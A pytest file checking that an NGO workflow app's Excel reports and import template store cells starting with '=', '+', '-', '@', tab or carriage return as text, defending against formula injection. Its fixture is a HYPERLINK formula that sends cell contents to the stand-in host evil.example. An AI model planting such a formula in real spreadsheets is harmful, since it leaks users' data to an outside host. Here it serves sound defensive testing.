"""Excel never runs data (OWASP CSV/formula injection): a text cell that starts with `=`, `+`,
`-`, `@`, a tab or a carriage return is written as text, in the reports' workbooks and in the
import template. The attack: an NGO named `=HYPERLINK(…)` became a live formula in a report."""

from __future__ import annotations

import datetime as dt
import zipfile
from pathlib import Path

import pytest
from openpyxl import load_workbook

from app.documents.excel import write_xlsx
from app.workflow import reports
from app.workflow.import_file import write_template
from app.workflow.reports import Column, Filter, Report, Table
from tests.factories import World

FORMULA = '=HYPERLINK("http://evil.example/?leak="&A1,"بیشتر بدانید")'
RISKY = [FORMULA, "+98 21 5555", "-2+3", "@SUM(A1:A9)", "\t=1+1", "\r=1+1"]


def _sheet_xml(path: Path) -> str:
    with zipfile.ZipFile(path) as book:
        return "".join(
            book.read(n).decode() for n in book.namelist() if n.startswith("xl/worksheets/")
        )


def test_an_ngo_named_like_a_formula_lands_as_text_in_the_report(
    database, clock, tmp_path: Path
) -> None:  # noqa: ANN001
    world = World(clock)
    world.ngo("N1")
    world.do("desk", "update_ngo", code="N1", name=FORMULA)
    world.contract("R1", "N1", "C1")
    report = reports.make(world.ctx("admin"), "quota_use")
    path = write_xlsx(report, tmp_path / "quota.xlsx")
    cells = [
        c
        for row in load_workbook(path).worksheets[0].iter_rows()
        for c in row
        if c.value == FORMULA
    ]
    assert cells and all(c.data_type == "s" and c.quotePrefix for c in cells)
    assert "<f>" not in _sheet_xml(path)  # no formula anywhere in the workbook


@pytest.mark.parametrize("text", RISKY, ids=["equals", "plus", "minus", "at", "tab", "cr"])
def test_every_risky_start_is_written_as_text(tmp_path: Path, text: str) -> None:
    report = Report(
        name="x",
        title=text,
        tables=(
            Table(
                text,
                (Column("a", text), Column("n", "تعداد", reports.INT)),
                ((text, 3), ("ساده", -4)),
            ),
        ),
        chart=reports.Chart(text, (text,), (reports.Series(text, (1.0,)),), "عدد"),
        filters=(Filter(text, text),),
        made_at=dt.datetime(2026, 3, 30, 9),
        made_by=text,
    )
    path = write_xlsx(report, tmp_path / "r.xlsx")
    book = load_workbook(path)
    first = "\n" if text[0] == "\r" else text[0]  # XML reads a carriage return as a newline
    found = [
        c
        for sheet in book.worksheets
        for row in sheet.iter_rows()
        for c in row
        if isinstance(c.value, str) and c.value.startswith(first)
    ]
    assert len(found) >= 6 and all(c.data_type == "s" and c.quotePrefix for c in found)
    numbers = [c.value for c in book.worksheets[0]["B"] if isinstance(c.value, int)]
    assert numbers == [3, -4]  # numbers stay numbers, a negative one too
    assert "<f>" not in _sheet_xml(path)


def test_the_import_template_holds_no_formula(tmp_path: Path) -> None:
    path = write_template(tmp_path / "template.xlsx")
    assert "<f>" not in _sheet_xml(path)
    sheet = load_workbook(path).active
    assert all(
        c.data_type in ("s", "n", "d")
        for row in sheet.iter_rows()
        for c in row
        if c.value is not None
    )
